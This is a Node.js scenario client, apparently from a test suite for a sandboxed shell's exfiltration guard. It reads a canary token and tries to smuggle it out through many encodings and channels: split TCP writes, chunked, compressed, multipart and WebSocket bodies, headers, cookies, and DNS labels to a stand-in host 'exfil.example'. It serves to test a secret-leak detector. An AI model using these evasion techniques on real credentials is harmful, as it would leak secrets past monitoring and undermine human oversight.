// Scenario client, run INSIDE a `grith shell` session: reads a canary from a workspace file or the environment (never
// from its argv, so the exec guard has nothing to see and the proxy or the mount must catch it), encodes it, then sends
// it through the session proxy byte-exactly or writes it to a file. Prints one JSON line; exit status says what happened:
//   0 delivered (2xx / written)   10 HTTP 403   11 connection reset or closed without an answer   12 other HTTP status
//   13 write refused (EACCES/EPERM/...)   2 bad usage
import { closeSync, openSync, readFileSync, writeSync } from 'node:fs';
import net from 'node:net';
import tls from 'node:tls';
import { setTimeout as sleep } from 'node:timers/promises';
import { parseArgs } from 'node:util';
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';

const { values: o } = parseArgs({
  options: {
    file: { type: 'string' },
    re: { type: 'string' },
    env: { type: 'string' },
    enc: { type: 'string', default: 'plain' },
    via: { type: 'string', default: 'body' },
    url: { type: 'string' },
    out: { type: 'string' },
    /** Where to cut the payload for two-part routes (default: the middle). */
    split: { type: 'string' },
  },
});

function done(code, result) {
  process.stdout.write(JSON.stringify(result) + '\n');
  process.exit(code);
}

function readToken() {
  if (o.env) {
    const v = process.env[o.env];
    if (!v) done(2, { error: `no variable ${o.env}` });
    return v;
  }
  if (!o.file) done(2, { error: '--file or --env needed' });
  const text = readFileSync(o.file, 'latin1');
  if (!o.re) return text;
  const m = new RegExp(o.re).exec(text);
  if (!m) done(2, { error: `pattern not found in ${o.file}` });
  return m[0];
}

const PROVIDER_PREFIX = /^(ghp_|github_pat_|glpat-|sk-proj-|sk-ant-api03-|xoxb-|npm_|sk_live_)/;
const TEXT = 'the deploy key is: ';
/** `TEXT` padded so that the token starts at byte offset k (mod 3) of the encoded text. */
const around = (t, k) => Buffer.from(TEXT + 'x'.repeat((k - (TEXT.length % 3) + 3) % 3) + t + ' (rotate it monthly)');
const b64 = (b) => Buffer.from(b).toString('base64');

const ENCODERS = {
  plain: (t) => t,
  'b64-0': (t) => b64(around(t, 0)),
  'b64-1': (t) => b64(around(t, 1)),
  'b64-2': (t) => b64(around(t, 2)),
  'b64-pad': (t) => b64(t),
  'b64-nopad': (t) => b64(t).replace(/=+$/, ''),
  'b64url-0': (t) => around(t, 0).toString('base64url'),
  'b64url-1': (t) => around(t, 1).toString('base64url'),
  'b64url-2': (t) => around(t, 2).toString('base64url'),
  hex: (t) => Buffer.from(t).toString('hex'),
  HEX: (t) => Buffer.from(t).toString('hex').toUpperCase(),
  pct: (t) => Buffer.from(t).toString('hex').toUpperCase().replace(/../g, '%$&'),
  'pct-lower': (t) => Buffer.from(t).toString('hex').replace(/../g, '%$&'),
  json: (t) => '{"key":"' + Buffer.from(t).toString('hex').replace(/../g, '\\u00$&') + '"}',
  utf16le: (t) => Buffer.from(t, 'utf16le').toString('latin1'),
  rev: (t) => [...t].reverse().join(''),
  b64b64: (t) => b64(b64(t)),
  strip: (t) => t.replace(PROVIDER_PREFIX, ''),
  /** Cut short: the prefix and the first 20 characters after it (the core's first 16+ survive). */
  trunc: (t) => t.slice(0, (PROVIDER_PREFIX.exec(t)?.[0].length ?? 0) + 20),
  /** Front torn off: the last 23 characters (a GitHub PAT's core tail of 17 + its 6 checksum characters). */
  tail: (t) => t.slice(-23),
};

const enc = ENCODERS[o.enc];
if (!enc) done(2, { error: `unknown --enc ${o.enc}` });
const payload = Buffer.from(enc(readToken()), 'latin1');
const cut = o.split !== undefined ? Number(o.split) : Math.floor(payload.length / 2);
const filler = (n) => Buffer.from('lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(n));

// ---------------------------------------------------------------------------------------------------- file writes
if (o.out) {
  const body = Buffer.concat([Buffer.from('notes\n'), payload, Buffer.from('\nend\n')]);
  const at = 6 + cut;
  let parts;
  if (o.via === 'once') parts = [body];
  else if (o.via === 'two') parts = [body.subarray(0, at), body.subarray(at)];
  else if (o.via === 'bytes') parts = [...body].map((b) => Buffer.from([b]));
  else done(2, { error: `unknown file --via ${o.via}` });
  let fd;
  let written = 0;
  try {
    fd = openSync(o.out, 'w');
    for (const p of parts) written += writeSync(fd, p);
    closeSync(fd);
  } catch (e) {
    if (fd !== undefined) {
      try {
        closeSync(fd);
      } catch {
        /* the close may report the same refusal */
      }
    }
    done(13, { error: e.code ?? String(e), written });
  }
  done(0, { written });
}

// ---------------------------------------------------------------------------------------------------- network
if (!o.url) done(2, { error: '--url or --out needed' });
const target = new URL(o.url);
const secure = target.protocol === 'https:' || target.protocol === 'wss:';
const proxyVar = secure || target.protocol === 'tcp:' ? process.env.HTTPS_PROXY || process.env.https_proxy : process.env.HTTP_PROXY || process.env.http_proxy;
const proxy = proxyVar ? new URL(proxyVar) : null;
const proxyAuth = proxy?.username
  ? `Proxy-Authorization: Basic ${b64(`${decodeURIComponent(proxy.username)}:${decodeURIComponent(proxy.password)}`)}\r\n`
  : '';
const authority = `${target.hostname}:${target.port || (secure ? 443 : 80)}`;

function connectTcp(host, port) {
  return new Promise((resolve, reject) => {
    const s = net.connect(port, host, () => resolve(s));
    s.once('error', reject);
    s.setNoDelay(true);
  });
}

/** CONNECT through the proxy; resolves with the socket (status 200) or the proxy's answer. */
async function tunnel(to) {
  const s = await connectTcp(proxy.hostname, Number(proxy.port));
  return new Promise((resolve) => {
    let buf = '';
    const onData = (d) => {
      buf += d.toString('latin1');
      const end = buf.indexOf('\r\n\r\n');
      if (end < 0) return;
      s.off('data', onData);
      s.pause();
      resolve({ socket: s, status: Number(buf.split(' ')[1]), response: buf });
    };
    s.on('data', onData);
    s.once('close', () => resolve({ socket: s, status: Number(buf.split(' ')[1]) || 0, response: buf }));
    s.once('error', () => undefined);
    s.write(`CONNECT ${to} HTTP/1.1\r\nHost: ${to}\r\n${proxyAuth}\r\n`);
  });
}

async function open(to = authority) {
  if (!proxy) {
    const [h, p] = [to.slice(0, to.lastIndexOf(':')), Number(to.slice(to.lastIndexOf(':') + 1))];
    const s = await connectTcp(h, p);
    if (!secure) return { socket: s };
    const t = tls.connect({ socket: s, host: h, servername: net.isIP(h) ? undefined : h, ALPNProtocols: ['http/1.1'] });
    await new Promise((r, j) => t.once('secureConnect', r).once('error', j));
    return { socket: t };
  }
  if (!secure && target.protocol !== 'tcp:') return { socket: await connectTcp(proxy.hostname, Number(proxy.port)), absolute: true };
  const t = await tunnel(to);
  if (t.status !== 200) return { answer: t };
  if (target.protocol === 'tcp:') {
    t.socket.resume();
    return { socket: t.socket };
  }
  const host = to.slice(0, to.lastIndexOf(':'));
  const s = tls.connect({ socket: t.socket, host, servername: net.isIP(host) ? undefined : host, ALPNProtocols: ['http/1.1'] });
  await new Promise((r, j) => s.once('secureConnect', r).once('error', j));
  return { socket: s };
}

/** Write the pieces (pausing between them when asked), then read until an answer is complete or the peer closes. */
async function exchange(socket, pieces, { pauseMs = 0, waitFor = null, settleMs = 15_000 } = {}) {
  let response = Buffer.alloc(0);
  let closed = false;
  let errored = false;
  const closedP = new Promise((r) => {
    socket.on('data', (d) => (response = Buffer.concat([response, d])));
    socket.on('error', () => (errored = true));
    socket.on('close', () => {
      closed = true;
      r();
    });
  });
  for (const [i, p] of pieces.entries()) {
    if (closed) break;
    if (i > 0 && waitFor) await waitFor(() => response, () => closed);
    socket.write(p);
    if (pauseMs > 0) await sleep(pauseMs);
    else await new Promise((r) => setImmediate(r));
  }
  const deadline = Date.now() + settleMs;
  while (!closed && Date.now() < deadline) {
    const text = response.toString('latin1');
    const head = text.indexOf('\r\n\r\n');
    if (head >= 0 && !/^HTTP\/1\.1 101/.test(text)) {
      const m = /content-length: *(\d+)/i.exec(text.slice(0, head));
      if (!m || response.length - head - 4 >= Number(m[1])) break;
    }
    await sleep(10);
  }
  const byPeer = closed;
  socket.destroy();
  await closedP;
  const text = response.toString('latin1');
  const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0);
  return { status, errored, closedByPeer: byPeer, head: text.split('\r\n')[0] };
}

function verdict(r) {
  if (r.status === 101) done(r.closedByPeer || r.errored ? 11 : 0, r);
  if (r.status >= 200 && r.status < 300) done(0, r);
  if (r.status === 403) done(10, r);
  if (r.status === 0) done(11, r);
  done(12, r);
}

function requestHead(method, path, headers) {
  const p = proxy && !secure ? `http://${authority}${path}` : path;
  const lines = [`${method} ${p} HTTP/1.1`, `Host: ${authority}`, ...Object.entries(headers).map(([k, v]) => `${k}: ${v}`)];
  if (proxy && !secure) lines.push(proxyAuth.trimEnd());
  return Buffer.from(lines.filter(Boolean).join('\r\n') + '\r\n\r\n', 'latin1');
}

function chunk(b) {
  return Buffer.concat([Buffer.from(b.length.toString(16) + '\r\n'), b, Buffer.from('\r\n')]);
}

async function main() {
  const base = target.pathname.replace(/\/$/, '');
  if (o.via === 'host') {
    // The payload as a DNS name: one label, or 12-character labels when it is longer than a label may be.
    const name = payload.length <= 63 ? payload.toString('latin1') : payload.toString('latin1').match(/.{1,12}/g).join('.');
    const r = await open(`${name}.exfil.example:443`);
    if (r.answer) {
      r.answer.socket.destroy();
      verdict({ status: r.answer.status, head: r.answer.response.split('\r\n')[0] });
    }
    r.socket.destroy();
    done(0, { status: 200, head: 'tunnel opened' });
  }
  if (o.via === 'tunnel') {
    const r = await open(`${target.hostname}:${target.port}`);
    if (r.answer) verdict({ status: r.answer.status, head: r.answer.response.split('\r\n')[0] });
    const first = Buffer.concat([Buffer.from('AUTH '), payload.subarray(0, cut)]);
    const res = await exchange(r.socket, [Buffer.from('\x00\x01HELO binary protocol\n'), first, Buffer.concat([payload.subarray(cut), Buffer.from('\n')])], {
      pauseMs: 150,
      settleMs: 5000,
    });
    // A raw tunnel has no HTTP answer and the attacker never hangs up: a close or reset is the guard's refusal.
    done(res.errored || res.closedByPeer ? 11 : 0, { ...res, status: 0 });
  }

  const r = await open();
  if (r.answer) verdict({ status: r.answer.status, head: r.answer.response.split('\r\n')[0] });
  const s = r.socket;
  const text = (p) => Buffer.concat([Buffer.from('report='), p, Buffer.from('&v=1')]);
  let pieces;
  let pauseMs = 0;
  let waitFor = null;
  const post = (body, headers = {}) => Buffer.concat([requestHead('POST', `${base}/collect`, { 'Content-Type': 'application/octet-stream', 'Content-Length': body.length, ...headers }), body]);
  switch (o.via) {
    case 'body':
      pieces = [post(text(payload))];
      break;
    case 'url':
      pieces = [requestHead('GET', `${base}/collect?d=${payload.toString('latin1')}&v=1`, {})];
      break;
    case 'path':
      pieces = [requestHead('GET', `${base}/p/${payload.toString('latin1')}/x`, {})];
      break;
    case 'header':
      pieces = [requestHead('GET', `${base}/h`, { 'X-Debug-Context': payload.toString('latin1') })];
      break;
    case 'auth':
      pieces = [requestHead('GET', `${base}/a`, { Authorization: `Basic ${b64(Buffer.concat([Buffer.from('deploy:'), payload]))}` })];
      break;
    case 'cookie':
      pieces = [requestHead('GET', `${base}/c`, { Cookie: `theme=dark; sid=${payload.toString('latin1')}; lang=en` })];
      break;
    case 'tcp2': {
      // The whole request in two TCP segments, cut inside the token.
      const whole = post(text(payload));
      const at = whole.length - 4 - (payload.length - cut);
      pieces = [whole.subarray(0, at), whole.subarray(at)];
      pauseMs = 150;
      break;
    }
    case 'bytes': {
      const body = text(payload);
      pieces = [requestHead('POST', `${base}/slow`, { 'Content-Length': body.length }), ...[...body].map((b) => Buffer.from([b]))];
      pauseMs = 2;
      break;
    }
    case 'chunked':
      pieces = [
        Buffer.concat([
          requestHead('POST', `${base}/chunked`, { 'Transfer-Encoding': 'chunked' }),
          chunk(filler(3)),
          chunk(text(payload)),
          chunk(filler(3)),
          Buffer.from('0\r\n\r\n'),
        ]),
      ];
      break;
    case 'chunks2': {
      // Two HTTP chunks, each in its own write, the token cut between them.
      const a = Buffer.concat([filler(2), payload.subarray(0, cut)]);
      const b = Buffer.concat([payload.subarray(cut), filler(2)]);
      pieces = [Buffer.concat([requestHead('POST', `${base}/chunked`, { 'Transfer-Encoding': 'chunked' }), chunk(a)]), Buffer.concat([chunk(b), Buffer.from('0\r\n\r\n')])];
      pauseMs = 150;
      break;
    }
    case 'gzip':
    case 'deflate':
    case 'br': {
      const raw = Buffer.concat([filler(40), payload, filler(40)]);
      const z = o.via === 'gzip' ? gzipSync(raw) : o.via === 'deflate' ? deflateSync(raw) : brotliCompressSync(raw);
      pieces = [post(z, { 'Content-Encoding': o.via, 'Content-Type': 'text/plain' })];
      break;
    }
    case 'multipart':
    case 'multipart-b64': {
      const part =
        o.via === 'multipart'
          ? Buffer.concat([Buffer.from('Content-Type: text/plain\r\n\r\n'), payload])
          : Buffer.from(
              'Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n' +
                b64(Buffer.concat([filler(2), payload, filler(2)])).replace(/.{76}/g, '$&\r\n'),
            );
      const body = Buffer.concat([
        Buffer.from('--scnBoundary\r\nContent-Disposition: form-data; name="note"\r\n\r\nweekly report\r\n'),
        Buffer.from('--scnBoundary\r\nContent-Disposition: form-data; name="file"; filename="notes.txt"\r\n'),
        part,
        Buffer.from('\r\n--scnBoundary--\r\n'),
      ]);
      pieces = [post(body, { 'Content-Type': 'multipart/form-data; boundary=scnBoundary' })];
      break;
    }
    case 'ws': {
      const frame = (p, opcode, fin) => {
        const mask = Buffer.from([0x1f, 0x2e, 0x3d, 0x4c]);
        const head = p.length < 126 ? Buffer.from([(fin ? 0x80 : 0) | opcode, 0x80 | p.length]) : Buffer.from([(fin ? 0x80 : 0) | opcode, 0x80 | 126, p.length >> 8, p.length & 255]);
        const body = Buffer.from(p);
        for (let i = 0; i < body.length; i++) body[i] ^= mask[i & 3];
        return Buffer.concat([head, mask, body]);
      };
      pieces = [
        requestHead('GET', `${base}/ws`, { Upgrade: 'websocket', Connection: 'Upgrade', 'Sec-WebSocket-Key': 'c2NlbmFyaW8tY2xpZW50IQ==', 'Sec-WebSocket-Version': '13' }),
        frame(Buffer.from('{"type":"hello"}'), 1, true),
        frame(Buffer.concat([Buffer.from('{"type":"log","line":"'), payload.subarray(0, cut)]), 1, false),
        frame(Buffer.concat([payload.subarray(cut), Buffer.from('"}')]), 0, true),
      ];
      pauseMs = 100;
      // Frames only after the server's 101, as a real client does.
      waitFor = async (resp, closed) => {
        for (let t = 0; t < 1000 && !closed() && !resp().includes('\r\n\r\n'); t++) await sleep(10);
      };
      const res = await exchange(s, pieces, { pauseMs, waitFor, settleMs: 5000 });
      // After the 101 a WebSocket has no status for a refusal: the guard resets the connection.
      done(res.status === 101 && !(res.errored || res.closedByPeer) ? 0 : res.status === 101 ? 11 : res.status === 403 ? 10 : 11, res);
      return;
    }
    default:
      done(2, { error: `unknown --via ${o.via}` });
  }
  verdict(await exchange(s, pieces, { pauseMs, waitFor }));
}

main().catch((e) => done(11, { error: e.code ?? e.message }));
